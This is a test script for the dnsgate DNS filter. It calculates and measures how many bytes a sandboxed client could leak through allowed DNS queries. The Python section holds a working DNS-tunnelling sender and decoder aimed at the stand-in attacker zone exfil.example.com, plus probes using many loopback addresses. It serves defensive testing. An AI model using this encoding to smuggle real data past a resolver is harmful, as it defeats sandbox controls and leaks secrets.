#!/usr/bin/env bash
# bandwidth.sh: the covert bandwidth one client has through dnsgate.
#
# Usage: tests/exfil/bandwidth.sh [-c FILE] [--allow ENTRY]... [--qps N]
#        tests/exfil/bandwidth.sh [-c FILE] --measure [-T SECONDS] [--budget N]
#                                 [--total N]
#
# Computes, from the effective configuration (`dnsgate --check`: the file's
# limits and allowlist, or the defaults with *.exfil.example.com), the most
# bytes a minute one client (one IPv4 address or IPv6 /64) can move to an
# attacker who owns the zone of an allowlist entry, and the most a sandbox
# can move whatever source addresses it uses (new_names_per_minute_total,
# summed over every client), with the assumptions printed beside the
# figures, and the channels dnsgate does not bound.
#
# --measure checks the figure on the real daemon: ldns-testns is the
# attacker's server for *.exfil.example.com (it logs every query it gets),
# dnsgate runs with the configuration's limits (and --budget N for
# new_names_per_minute), and a sender encodes a random payload into names
# of one label of the longest length allowed, over the whole alphabet and
# the choice of query type, as fast as dnsgate answers, for T seconds
# (default 20). The payload is then decoded from the upstream's log, and the
# bytes that got through are printed next to the bound for T seconds
# (bucket + rate × T). Two short runs follow: refetches of seen names whose
# answers have TTL 0 (the refetch bucket), and repeats of the entry's own
# name (depth 0, not budgeted). Then ten clients on ten loopback addresses
# (127.0.1.1-10, as any process on a host may bind) ask new names under a
# second entry, *.multi.example.com, for 5 s: what reaches its server is
# bounded by the total (--total N for new_names_per_minute_total), not by
# ten times the per-client budget. Only 127.0.0.1-3 and 127.0.1.1-10;
# processes stopped by PID.
#
# The last line of --measure is machine-readable:
#   RESULT names=N names_bound=N bytes=N bytes_bound=N refetch=N refetch_bound=N apex_sent=N apex_reached=N multi_clients=N multi_names=N multi_bound=N
set -u

here=$(cd "$(dirname "$0")" && pwd)
top=$(cd "$here/../.." && pwd)
DNSGATE=${DNSGATE:-$top/src/dnsgate}
LDNS_TESTNS=${LDNS_TESTNS:-ldns-testns}
PYTHON=${PYTHON:-python3}

usage() {
	sed -n '2,/^set -u/p' "$0" | sed -e '/^set -u/d' -e 's/^# \{0,1\}//'
	exit "${1:-0}"
}

conf=
allows=()
measure=0
secs=20
budget=
total=
qps=1000
while [ $# -gt 0 ]; do
	case $1 in
	-c|--config) conf=${2:?-c needs a file}; shift 2 ;;
	--allow) allows+=("${2:?--allow needs an entry}"); shift 2 ;;
	--measure) measure=1; shift ;;
	-T) secs=${2:?-T needs seconds}; shift 2 ;;
	--budget) budget=${2:?--budget needs a number}; shift 2 ;;
	--total) total=${2:?--total needs a number}; shift 2 ;;
	--qps) qps=${2:?--qps needs a number}; shift 2 ;;
	-h|--help) usage 0 ;;
	*) echo "bandwidth.sh: unknown argument: $1" >&2; usage 2 >&2 ;;
	esac
done
case $secs in ''|*[!0-9]*) echo "bandwidth.sh: -T wants whole seconds" >&2; exit 2 ;; esac
[ "$secs" -ge 1 ] && [ "$secs" -le 300 ] || { echo "bandwidth.sh: -T between 1 and 300" >&2; exit 2; }
case ${budget:-1} in *[!0-9]*) echo "bandwidth.sh: --budget wants a number" >&2; exit 2 ;; esac
case ${total:-1} in *[!0-9]*) echo "bandwidth.sh: --total wants a number" >&2; exit 2 ;; esac
case $qps in ''|*[!0-9]*) echo "bandwidth.sh: --qps wants a number" >&2; exit 2 ;; esac
command -v "$PYTHON" >/dev/null 2>&1 || { echo "bandwidth.sh: needs $PYTHON" >&2; exit 2; }
[ -x "$DNSGATE" ] || { echo "bandwidth.sh: no dnsgate at $DNSGATE (set DNSGATE)" >&2; exit 2; }

. "$here/../common.sh"
tmp=$(mktemp -d "${TMPDIR:-/tmp}/dnsgate-exfil.XXXXXX") || exit 2
pids=()
cleanup() {
	stop_pids
	release_ports
	[ -n "${KEEP_TMP:-}" ] || rm -rf "$tmp"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

# The refetch bucket's factor and the size of the names-seen table are
# compile-time constants: read them from the sources next to this script.
refetch_factor=$(sed -n 's/^#define DG_BUDGET_REFETCH_FACTOR[[:space:]]*\([0-9]*\).*/\1/p' "$top/src/budget.h" 2>/dev/null)
seen_sets=$(sed -n 's/^#define SEEN_SETS[[:space:]]*\([0-9]*\).*/\1/p' "$top/src/budget.c" 2>/dev/null)
seen_ways=$(sed -n 's/^#define WAYS[[:space:]]*\([0-9]*\).*/\1/p' "$top/src/budget.c" 2>/dev/null)
seen_max=$(( ${seen_sets:-0} * ${seen_ways:-0} ))

# The effective configuration. Never contacts anything: --check only reads.
check_args=()
[ -n "$conf" ] && check_args+=(-c "$conf")
if [ ${#allows[@]} -eq 0 ] && { [ -z "$conf" ] || [ "$measure" = 1 ]; }; then
	allows=('*.exfil.example.com')
fi
for a in "${allows[@]}"; do check_args+=(--allow "$a"); done
"$DNSGATE" "${check_args[@]}" --upstream 127.0.0.1:9 --check >"$tmp/check.txt" 2>"$tmp/check.err" || {
	echo "bandwidth.sh: dnsgate --check failed:" >&2
	cat "$tmp/check.err" >&2
	exit 2
}
describe="${conf:-<embedded defaults>}"
for a in "${allows[@]}"; do describe="$describe --allow '$a'"; done

cat >"$tmp/bw.py" <<'EOF'
# The arithmetic, the sender and the decoder (see bandwidth.sh).
import math, os, random, re, select, socket, struct, sys, time

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "PTR": 12, "MX": 15,
         "TXT": 16, "KEY": 25, "AAAA": 28, "SRV": 33, "NAPTR": 35,
         "DS": 43, "SSHFP": 44, "DNSKEY": 48, "TLSA": 52, "SVCB": 64,
         "HTTPS": 65, "CAA": 257, "NULL": 10, "ANY": 255}
ALPHABET = {"ldh_underscore": "abcdefghijklmnopqrstuvwxyz0123456789-_",
            "ldh": "abcdefghijklmnopqrstuvwxyz0123456789-"}

def parse_check(path):
    pol, entries, section, in_list = {}, [], None, False
    for line in open(path):
        line = line.rstrip("\n")
        if line.startswith("; allowlist"):
            in_list = True
            continue
        if in_list:
            body = line.split("#", 1)[0].split()
            if not body or body[0].startswith(";"):
                continue
            name, depth, types = body[0], 0, None
            for opt in body[1:]:
                if opt.startswith("depth="):
                    depth = int(opt[6:])
                elif opt.startswith("types="):
                    types = opt[6:].split(",")
            if name.startswith("*."):
                name, depth = name[2:], max(depth, 1)
            entries.append({"spec": " ".join(body), "name": name.rstrip("."),
                            "depth": depth, "types": types})
            continue
        m = re.match(r"^\[(.*)\]$", line)
        if m:
            section = m.group(1)
        elif section == "policy" and " = " in line:
            k, v = line.split(" = ", 1)
            pol[k.strip()] = v.strip()
    pol["default_types"] = [t.strip() for t in pol["default_types"].split(",")]
    for k in ("max_label_length", "max_name_length", "new_names_per_minute",
              "new_names_per_minute_total", "min_ttl"):
        pol[k] = int(pol[k])
    return pol, entries

def names_below(A, L, depth, room):
    """Distinct names of 1..depth labels of 1..L symbols whose characters
    plus one dot per label fit in room (max_name_length - len(entry))."""
    one = [0] + [A ** l for l in range(1, L + 1)]
    total, cur = 0, [1]
    for k in range(1, depth + 1):
        nxt = [0] * min(len(cur) + L, room + 1)
        for c0, w in enumerate(cur):
            if w:
                for l in range(1, L + 1):
                    if c0 + l < len(nxt):
                        nxt[c0 + l] += w * one[l]
        cur = nxt
        room_k = room - k
        if room_k < k:
            break
        total += sum(cur[:room_k + 1])
    return total

def max_chars(L, depth, room):
    return max([min(k * L, room - k) for k in range(1, depth + 1)] + [0])

def entry_figures(pol, e):
    A = len(ALPHABET[pol.get("charset", "ldh_underscore")])
    L, M = pol["max_label_length"], pol["max_name_length"]
    types = e["types"] or pol["default_types"]
    room = M - len(e["name"])
    n = names_below(A, L, e["depth"], room) if e["depth"] > 0 else 0
    bits = math.log2(n) + math.log2(len(types)) if n else 0.0
    return {"A": A, "types": types, "names": n, "chars": max_chars(L, e["depth"], room),
            "bits": bits}

def fmt(b):
    return "%.0f" % b if b >= 10 else "%.1f" % b

def compute(check, describe, F, seen_max, qps, budget, total):
    pol, entries = parse_check(check)
    if budget:
        pol["new_names_per_minute"] = budget
    if total:
        pol["new_names_per_minute_total"] = total
    R = pol["new_names_per_minute"]
    Rt = pol["new_names_per_minute_total"]
    A = len(ALPHABET[pol.get("charset", "ldh_underscore")])
    print("dnsgate covert bandwidth, per client (one IPv4 address or IPv6 /64)")
    print("configuration: %s" % describe)
    print("limits: max_label_length %d, max_name_length %d (as written, no final dot),"
          % (pol["max_label_length"], pol["max_name_length"]))
    print("        charset %s: %d symbols once lowercased (%.3f bits a character),"
          % (pol.get("charset"), A, math.log2(A)))
    print("        default types %s (%d: %.2f bits), min_ttl %d"
          % (" ".join(pol["default_types"]), len(pol["default_types"]),
             math.log2(len(pol["default_types"])), pol["min_ttl"]))
    print("budget: %d new names a minute per (client, entry): a bucket of %d, refilled %d a minute"
          % (R, R, R))
    if F:
        print("        refetch bucket (src/budget.h): %d x: %d refetches of seen names that miss"
              " the cache, bucket %d" % (F, F * R, F * R))
    else:
        print("        no refetch bucket found in src/budget.h: repeats of seen names are free")
    print("total:  %d new names a minute per entry, every client of the policy together"
          " (new_names_per_minute_total)" % Rt)
    if F:
        print("        and %d refetches a minute per entry, every client together" % (F * Rt))
    print("        names seen remembered: %s in all (src/budget.c)" % (seen_max or "unknown"))
    print()
    print("Assumptions: the attacker owns the zone of the entry and logs every query;")
    print("one new name carries log2(#names dnsgate allows below the entry) bits (all label")
    print("splits and lengths up to the limits, %d symbols: case is folded before forwarding)"
          % A)
    print("plus log2(#types allowed) for the type of its first query; the query ID, port,")
    print("case, EDNS and flags are rebuilt by dnsgate and carry nothing. Timing is not counted.")
    print()
    w = max([len(e["spec"]) for e in entries] + [20])
    hdr = "%-*s %5s %5s %6s %9s %8s %10s %10s" % (
        w, "entry", "depth", "types", "chars", "bits/name", "B/name", "B/min", "burst B")
    print(hdr)
    print("-" * len(hdr))
    tot_min = tot_burst = tot_ref_lo = tot_ref_hi = 0.0
    depth0 = []
    for e in entries:
        f = entry_figures(pol, e)
        if e["depth"] == 0:
            depth0.append((e, f))
            print("%-*s %5d %5d %6s %9s %8s %10s %10s" % (
                w, e["spec"], 0, len(f["types"]), "-", "-", "-", "0*", "0*"))
            continue
        bpm = R * f["bits"] / 8
        print("%-*s %5d %5d %6d %9.2f %8.2f %10.0f %10.0f" % (
            w, e["spec"], e["depth"], len(f["types"]), f["chars"], f["bits"],
            f["bits"] / 8, bpm, bpm))
        tot_min += bpm
        tot_burst += bpm
        e["f"] = f
    print()
    print("* depth 0 (the entry's own name): never a new name; its repeats draw on the")
    print("  refetch bucket like any other (see the repeat channels below).")
    print()
    budgeted = [e for e in entries if e["depth"] > 0]
    if budgeted:
        print("New names (budgeted): at most %.0f bytes a minute per client in the long run,"
              % tot_min)
        print("plus a burst of %.0f bytes once (full buckets); no 60 s window holds more than %.0f."
              % (tot_burst, tot_min + tot_burst))
        print()
    print("Repeat channels: names already asked whose answers are not cached. A hostile")
    print("server answers with TTL 0; dnsgate keeps answers min_ttl seconds at least. S is")
    print("the number of names the client has asked below the entry (it grows by the budget:")
    print("S <= R*(1+t) after t minutes, at most the names-seen table), T the types allowed.")
    print("Each refetch signals which (name, type) was asked: log2(S*T) bits.")
    print()
    hdr = "%-44s %-8s %16s %12s" % ("channel (per entry)", "bounded", "queries/min", "bytes/min")
    print(hdr)
    print("-" * len(hdr))
    qpm = qps * 60
    for e in budgeted:
        f = e["f"]
        T = len(f["types"])
        cases = [("S=%d, after 1 min" % (2 * R), 2 * R),
                 ("S=%d, after 1 h" % (61 * R), 61 * R)]
        if seen_max:
            cases.append(("S=%d, table full" % seen_max, seen_max))
        print("%s" % e["spec"])
        for ttl in sorted({0, 60, pol["min_ttl"]}):
            for label, S in cases:
                bits = math.log2(S * T)
                if F:
                    q = F * R
                    if ttl:
                        cap = S * T * 60.0 / ttl  # each (name, type) 1 bit per min_ttl
                        b = min(q * bits, cap)
                        q = min(q, S * T * 60.0 / ttl)
                    else:
                        b = q * bits
                    print("  %-42s %-8s %16.0f %12.0f" % (
                        "refetch, min_ttl=%d, %s" % (ttl, label), "yes", q, b / 8))
                else:
                    if ttl:
                        q, b = S * T * 60.0 / ttl, S * T * 60.0 / ttl
                    else:
                        q, b = qpm, qpm * bits
                    print("  %-42s %-8s %16.0f %12.0f" % (
                        "repeat, min_ttl=%d, %s" % (ttl, label),
                        "no" if not ttl else "cache", q, b / 8))
            if ttl == 0 and F:
                lo_S = 2 * R
                tot_ref_lo += F * R * math.log2(lo_S * T) / 8
                tot_ref_hi += F * R * math.log2((seen_max or 61 * R) * T) / 8
        if F:
            # What the refetch bucket buys: without it, at the query rate.
            S = 2 * R
            print("  %-42s %-8s %16.0f %12.0f" % (
                "no refetch bucket: min_ttl=0, S=%d" % S, "no", qpm,
                qpm * math.log2(S * T) / 8))
            print("  %-42s %-8s %16.0f %12.0f" % (
                "no refetch bucket: min_ttl=60, S=%d" % S, "cache", S * T,
                S * T / 8.0))
    # Depth-0 names: the entry's own name (a wildcard's apex, an exact entry).
    T0 = sum(len(entry_figures(pol, e)["types"]) for e in entries)
    print("%s" % "depth-0 names (each entry's own name)")
    if F:
        print("  %-42s %-8s %16.0f %12.0f" % (
            "repeat, min_ttl=0, refetch bucket", "yes", F * R,
            F * R * math.log2(max(T0, 1)) / 8))
    for ttl in sorted({60, pol["min_ttl"]} - {0}):
        print("  %-42s %-8s %16.0f %12.1f" % (
            "repeat, min_ttl=%d" % ttl, "cache", T0 * 60.0 / ttl, T0 * 60.0 / ttl / 8))
    print()
    print("An entry's own name is never a new name, but when its server is hostile and")
    print("answers TTL 0 every query for it would reach that server, and which of the %d" % T0)
    print("(name, type) pairs is asked carries log2(%d) = %.2f bits a query. Those repeats" % (
        T0, math.log2(max(T0, 1))))
    print("draw on the same refetch bucket as seen names (at most %d a minute, shared)." % (F * R))
    print()
    if budgeted and F:
        print("Total budgeted, per client, all entries: %.0f bytes a minute (new names) + %.0f..%.0f"
              % (tot_min, tot_ref_lo, tot_ref_hi))
        print("(refetches, S from %d to %s) = %.0f..%.0f bytes a minute, and a burst of as much"
              % (2 * R, seen_max or 61 * R, tot_min + tot_ref_lo, tot_min + tot_ref_hi))
        print("again once. Clients are counted by address (IPv6 /64), which a sandbox can")
        print("borrow or forge: with k addresses it has k times this, up to the totals below.")
        print()
        print("Whatever addresses a sandbox uses (all clients of the policy together, per entry):")
        hdr = "%-*s %12s %14s %16s" % (w, "entry", "names/min", "new B/min", "refetch B/min")
        print(hdr)
        print("-" * len(hdr))
        all_new = all_ref = 0.0
        for e in budgeted:
            f = e["f"]
            T = len(f["types"])
            new_b = Rt * f["bits"] / 8
            ref_b = F * Rt * math.log2((seen_max or 61 * Rt) * T) / 8
            all_new += new_b
            all_ref += ref_b
            print("%-*s %12d %14.0f %16.0f" % (w, e["spec"], Rt, new_b, ref_b))
        print("TOTAL BOUND: %.0f bytes a minute in new names + %.0f in refetches = %.0f bytes"
              % (all_new, all_ref, all_new + all_ref))
        print("a minute for all the entries above, whatever the number of addresses, and a")
        print("burst of as much again once (full buckets).")
    print("Not bounded by dnsgate: timing of any allowed query;")
    print("data carried by the allowed destinations themselves (HTTP).")

# --- measurement ------------------------------------------------------------

def query(qid, labels, qtype):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for l in labels:
        q += bytes([len(l)]) + l.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)

class Client:
    def __init__(self, src, port):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.s.bind((src, 0))
        self.s.connect(("127.0.0.1", port))
        self.sent = 0

    def ask(self, labels, qtype, timeout=1.0):
        """Send one query, wait for its answer: the rcode, or None."""
        qid = random.randrange(65536)
        self.s.send(query(qid, labels, qtype))
        self.sent += 1
        end = time.time() + timeout
        while True:
            left = end - time.time()
            if left <= 0 or not select.select([self.s], [], [], left)[0]:
                return None
            try:
                msg = self.s.recv(4096)
            except OSError:
                return None
            if len(msg) >= 12 and struct.unpack("!H", msg[:2])[0] == qid:
                return msg[3] & 0x0F

def ask_for(secs, limit, ask):
    """Call ask(i), which sends query i and returns its rcode (None: no
    answer), for secs seconds and at most limit times, pausing a little
    after each one not answered NOERROR: (answered, denied, elapsed)."""
    t0 = time.time()
    i = answered = denied = 0
    while time.time() < t0 + secs and i < limit:
        if ask(i) == 0:
            answered += 1
        else:
            denied += 1
            time.sleep(0.002)
        i += 1
    return answered, denied, time.time() - t0

def upstream_queries(log):
    out = []
    pat = re.compile(r"^query [0-9]+: id [0-9]+: [A-Z]+ [0-9]+ bytes: (\S+)\s+IN\s+(\S+)$")
    for line in open(log, errors="replace"):
        m = pat.match(line.rstrip("\n"))
        if m:
            out.append((m.group(1).rstrip(".").lower(), m.group(2)))
    return out

def measure(check, port, log, secs, F, zone="exfil.example.com"):
    pol, _ = parse_check(check)
    R = pol["new_names_per_minute"]
    alpha = ALPHABET[pol.get("charset", "ldh_underscore")]
    A = len(alpha)
    types = pol["default_types"]
    T = len(types)
    c = min(pol["max_label_length"], pol["max_name_length"] - len(zone) - 1)
    e = {"name": zone, "depth": 1, "types": None, "spec": "*." + zone}
    f = entry_figures(pol, e)
    b = (A ** c * T).bit_length() - 1   # whole bits one name of c symbols holds
    nchunks = int(R + R * secs / 60) + 64
    payload = int.from_bytes(os.urandom((nchunks * b + 7) // 8), "big")
    chunks = [(payload >> (i * b)) & ((1 << b) - 1) for i in range(nchunks)]

    def name_of(v):
        t, v = v % T, v // T
        digits = []
        for _ in range(c):
            v, d = divmod(v, A)
            digits.append(alpha[d])
        return "".join(reversed(digits)), types[t]

    print("measure: *.%s, one label of %d symbols (%d bits) + the type (%d types): "
          "%d bits a name; budget %d a minute; %d s" % (zone, c, c * math.log2(A), T, b, R, secs))
    cl = Client("127.0.0.1", port)
    k, granted, denied, lost = 0, 0, 0, 0
    t0 = time.time()
    end = t0 + secs
    while time.time() < end and k < nchunks and cl.sent < 500000:
        label, qt = name_of(chunks[k])
        rc = cl.ask([label] + zone.split("."), TYPES[qt])
        if rc == 0:
            k, granted = k + 1, granted + 1
        elif rc is None:
            lost += 1
        else:
            denied += 1
            time.sleep(0.002)   # retry the same chunk: a token comes every 60/R s
    elapsed = time.time() - t0
    time.sleep(0.5)
    # Decode what the attacker's server saw, in order, each name once.
    seen, got = set(), []
    inv = {ch: i for i, ch in enumerate(alpha)}
    for name, qt in upstream_queries(log):
        labels = name.split(".")
        if ".".join(labels[1:]) != zone or len(labels[0]) != c:
            continue
        if labels[0] in seen or qt not in types:
            continue
        seen.add(labels[0])
        v = 0
        for ch in labels[0]:
            v = v * A + inv[ch]
        got.append(v * T + types.index(qt))
    ok = 0
    while ok < len(got) and ok < nchunks and got[ok] == chunks[ok]:
        ok += 1
    names_bound = R + R * elapsed / 60
    bytes_meas = ok * b / 8
    bytes_bound = names_bound * f["bits"] / 8
    print("  sent %d queries (%d answered NOERROR, %d denied, %d unanswered) in %.1f s"
          % (cl.sent, granted, denied, lost, elapsed))
    print("  the upstream saw %d distinct payload names; %d decode to the payload in order"
          % (len(got), ok))
    print("  %-40s %12s %12s" % ("", "measured", "bound"))
    print("  %-40s %12d %12.1f" % ("new names in %.1f s (R + R*T/60)" % elapsed, len(got), names_bound))
    print("  %-40s %12.0f %12.0f" % ("payload bytes in %.1f s" % elapsed, bytes_meas, bytes_bound))
    print("  %-40s %12.0f %12.0f" % ("bytes a minute over those %.1f s" % elapsed,
                                      bytes_meas * 60 / elapsed, bytes_bound * 60 / elapsed))
    print("  %-40s %12s %12.0f" % ("bytes a minute, long run (R names)", "",
                                    R * f["bits"] / 8))
    print("  (measured encodes %d whole bits a name; the bound counts %.2f: every label"
          " length and a fraction of a bit)" % (b, f["bits"]))
    # Refetches: a second client asks S seen names (TTL 0 answers) again
    # and again; each repeat that reaches the upstream is a refetch.
    S = min(8, R)
    cl2 = Client("127.0.0.2", port)
    for i in range(S):
        cl2.ask(["r%d" % i] + zone.split("."), 1)
    before = sum(1 for n, qt in upstream_queries(log) if re.fullmatch(r"r[0-9]+\." + re.escape(zone), n))
    rok, rden, relapsed = ask_for(
        3, 100000, lambda i: cl2.ask(["r%d" % random.randrange(S)] + zone.split("."), 1))
    time.sleep(0.5)
    refetch = sum(1 for n, qt in upstream_queries(log) if re.fullmatch(r"r[0-9]+\." + re.escape(zone), n)) - before
    refetch_bound = F * R + F * R * relapsed / 60 if F else float("inf")
    print("refetch: %d seen names with TTL-0 answers asked %d times in %.1f s from a second client"
          % (S, cl2.sent - S, relapsed))
    print("  %d reached the upstream (refetch bound %s), %d answered, %d denied"
          % (refetch, "%.1f" % refetch_bound if F else "none", rok, rden))
    # The entry's own name (depth 0): its repeats draw on the refetch bucket.
    cl3 = Client("127.0.0.3", port)
    before = sum(1 for n, qt in upstream_queries(log) if n == zone)
    t2 = time.time()
    asecs = 2
    while time.time() < t2 + asecs and cl3.sent < 50000:
        cl3.ask(zone.split("."), 1)
    aelapsed = time.time() - t2
    time.sleep(0.5)
    apex = sum(1 for n, qt in upstream_queries(log) if n == zone) - before
    print("apex: %s (depth 0, TTL-0 answer) asked %d times in %.1f s from a third client: "
          "%d reached the upstream (%.0f q/s; at log2(%d) bits a query %.0f bytes a minute)"
          % (zone, cl3.sent, aelapsed, apex, apex / aelapsed, T, apex / aelapsed * 60 * math.log2(T) / 8))
    # Many addresses, one entry of its own (a fresh total): each client
    # has R of its own, K*R in all, but only the total reaches the server.
    zone2 = "multi.example.com"
    K = 10
    Rt = pol["new_names_per_minute_total"]
    many = [Client("127.0.1.%d" % (i + 1), port) for i in range(K)]
    mok, mden, melapsed = ask_for(
        min(secs, 5), 200000, lambda i: many[i % K].ask(["m%d" % i] + zone2.split("."), 1))
    time.sleep(0.5)
    multi = len({n for n, qt in upstream_queries(log)
                 if n.endswith("." + zone2) and n != zone2})
    rate = min(K * R, Rt)
    multi_bound = rate + rate * melapsed / 60
    print("multi: %d clients (127.0.1.1-%d), %d new names under *.%s in %.1f s: %d answered,"
          " %d denied" % (K, K, mok + mden, zone2, melapsed, mok, mden))
    print("  %d reached the upstream; bound min(%d x %d, total %d) + that x %.1f s / 60 = %.1f"
          " (%d x the per-client budget would be %d)"
          % (multi, K, R, Rt, melapsed, multi_bound, K, K * R))
    print("RESULT names=%d names_bound=%.1f bytes=%.0f bytes_bound=%.0f refetch=%d refetch_bound=%.1f "
          "apex_sent=%d apex_reached=%d multi_clients=%d multi_names=%d multi_bound=%.1f"
          % (len(got), names_bound, bytes_meas, bytes_bound, refetch,
             refetch_bound if F else -1, cl3.sent, apex, K, multi, multi_bound))

if __name__ == "__main__":
    if sys.argv[1] == "compute":
        compute(sys.argv[2], sys.argv[3], int(sys.argv[4] or 0), int(sys.argv[5] or 0),
                int(sys.argv[6]), int(sys.argv[7] or 0), int(sys.argv[8] or 0))
    elif sys.argv[1] == "measure":
        measure(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]),
                int(sys.argv[6] or 0))
EOF

if [ "$measure" = 0 ]; then
	"$PYTHON" "$tmp/bw.py" compute "$tmp/check.txt" \
		"$describe${budget:+, new_names_per_minute = $budget}${total:+, new_names_per_minute_total = $total}" \
		"${refetch_factor:-0}" "$seen_max" "$qps" "$budget" "$total"
	exit
fi

# --- measure -----------------------------------------------------------------
command -v "$LDNS_TESTNS" >/dev/null 2>&1 || { echo "bandwidth.sh: --measure needs $LDNS_TESTNS (ldnsutils)" >&2; exit 2; }

# A free port of 127.0.0.1, UDP and TCP.

# The attacker's server: every name under exfil.example.com exists (NOERROR,
# no data, so every query shows in its log); r0..r7 and the zone's own name
# answer A with TTL 0, so they are never cached.
{
	for n in exfil.example.com r0.exfil.example.com r1.exfil.example.com r2.exfil.example.com \
		 r3.exfil.example.com r4.exfil.example.com r5.exfil.example.com r6.exfil.example.com \
		 r7.exfil.example.com; do
		printf 'ENTRY_BEGIN\nMATCH opcode qtype qname\nADJUST copy_id\nREPLY QR AA NOERROR\n'
		printf 'SECTION QUESTION\n%s. IN A\nSECTION ANSWER\n%s. 0 IN A 192.0.2.1\nENTRY_END\n\n' "$n" "$n"
	done
	for z in exfil.example.com multi.example.com; do
		printf 'ENTRY_BEGIN\nMATCH opcode subdomain\nADJUST copy_id copy_query\nREPLY QR AA NOERROR\n'
		printf 'SECTION QUESTION\n%s. IN A\nENTRY_END\n\n' "$z"
	done
} >"$tmp/exfil.testns"

up_port=$(free_port) || { echo "bandwidth.sh: no free port" >&2; exit 2; }
stdbuf -oL "$LDNS_TESTNS" -v -p "$up_port" "$tmp/exfil.testns" >"$tmp/up.log" 2>&1 &
pids+=($!)
for i in $(seq 50); do
	grep -q "Listening on port" "$tmp/up.log" 2>/dev/null && break
	sleep 0.1
done
grep -q "Listening on port" "$tmp/up.log" || { echo "bandwidth.sh: ldns-testns did not start" >&2; cat "$tmp/up.log" >&2; exit 2; }

# dnsgate with the analysed configuration's limits, the budget asked for,
# the one entry *.exfil.example.com, and our upstream.
pol() { # the value of a [policy] key in the effective configuration
	awk -v k="$1" '/^\[/ { s = $0 } s == "[policy]" && $1 == k { sub(/^[^=]*= */, ""); print; exit }' "$tmp/check.txt"
}
dg_port=$(free_port) || { echo "bandwidth.sh: no free port" >&2; exit 2; }
cat >"$tmp/dnsgate.conf" <<EOC
[server]
listen = 127.0.0.1:$dg_port
[upstream]
servers = 127.0.0.1:$up_port
[policy]
allow = *.exfil.example.com, *.multi.example.com
default_types = $(pol default_types)
max_label_length = $(pol max_label_length)
max_name_length = $(pol max_name_length)
charset = $(pol charset)
new_names_per_minute = ${budget:-$(pol new_names_per_minute)}
new_names_per_minute_total = ${total:-$(pol new_names_per_minute_total)}
min_ttl = $(pol min_ttl)
max_ttl = $(pol max_ttl)
[log]
query_log = $tmp/query.log
EOC
"$DNSGATE" -c "$tmp/dnsgate.conf" --check >"$tmp/check.txt" 2>"$tmp/check.err" || {
	echo "bandwidth.sh: the measuring configuration is not valid:" >&2; cat "$tmp/check.err" >&2; exit 2; }
"$DNSGATE" -c "$tmp/dnsgate.conf" >"$tmp/dnsgate.log" 2>&1 &
dg_pid=$!
pids+=("$dg_pid")
for _ in $(seq 50); do
	grep -q "listening on" "$tmp/dnsgate.log" 2>/dev/null && break
	kill -0 "$dg_pid" 2>/dev/null || break
	sleep 0.1
done
grep -q "listening on" "$tmp/dnsgate.log" || { echo "bandwidth.sh: dnsgate did not start" >&2; cat "$tmp/dnsgate.log" >&2; exit 2; }

echo "configuration: $describe${budget:+, new_names_per_minute = $budget}${total:+, new_names_per_minute_total = $total}"
timeout $((secs + 30)) "$PYTHON" "$tmp/bw.py" measure "$tmp/check.txt" "$dg_port" "$tmp/up.log" "$secs" "${refetch_factor:-0}"
rc=$?
printf 'dnsgate denials: '
grep -o '"reason":"[a-z-]*"' "$tmp/query.log" 2>/dev/null | sed 's/"reason":"\(.*\)"/\1/' | sort | uniq -c |
	awk '{ printf "%s%s %s", (NR > 1 ? ", " : ""), $2, $1 } END { print "" }'
exit $rc
